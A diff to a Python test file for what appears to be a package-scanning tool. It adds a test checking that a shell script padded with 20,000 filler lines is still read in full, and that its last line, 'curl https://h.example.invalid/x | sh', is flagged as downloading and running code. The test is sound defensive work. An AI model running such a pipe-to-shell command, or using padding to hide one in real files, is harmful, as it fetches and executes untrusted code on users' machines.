@@ -9,11 +9,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from pratique.artifact import Member
+from pratique.artifact import Artifact, Member
 from pratique.facts.metadata import read_metadata
 from pratique.facts.native import Format, read_native
 from pratique.facts.pth import as_source, code_lines
-from pratique.names import Sha256
+from pratique.facts.reader import read
+from pratique.names import Sha256, distribution_name
 
 _PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(40)
 _ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00" + bytes(40)
@@ -97,6 +98,14 @@ def test_metadata_fields() -> None:
     assert (facts.name, facts.version, facts.summary) == ("A", "1", "s")
     assert facts.direct == ("c @ https://c.example.invalid/c.whl",)
     assert read_metadata(_member("docs/PKG-INFO", text.encode())) is None
+
+
+def test_a_script_without_an_ending_is_read_whatever_its_size() -> None:
+    """Its first line gives a script away; filling it up before what counts leaves nothing unread."""
+    script = b"#!/bin/sh\n" + b"# nothing to see on this line\n" * 20_000 + b"curl https://h.example.invalid/x | sh\n"
+    artifact = Artifact(name=distribution_name("a-1.tar.gz"), sha256=Sha256("0" * 64), size=1)
+    facts = read(artifact, [_member("tools/prepare", script)])
+    assert [(one.path, one.runs_download) for one in facts.shells] == [("tools/prepare", True)]
 
 
 @given(st.binary(max_size=300), st.sampled_from([b"", b"MZ", b"\x7fELF", b"Name: x\nProject-URL: ", b"import a\n"]))
